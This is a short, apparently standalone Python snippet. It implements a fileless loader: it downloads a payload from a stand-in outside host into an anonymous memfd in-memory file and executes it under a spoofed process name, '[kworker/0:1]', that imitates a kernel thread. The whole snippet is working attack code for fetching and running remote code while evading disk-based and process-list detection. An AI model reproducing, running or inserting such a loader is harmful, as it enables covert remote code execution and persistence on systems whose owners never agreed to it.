import ctypes, os, urllib.request
fd = ctypes.CDLL(None).memfd_create(b"", 1)
os.write(fd, urllib.request.urlopen("https://memfd-inert.example/e").read())
os.execve(f"/proc/self/fd/{fd}", ["[kworker/0:1]"], os.environ)
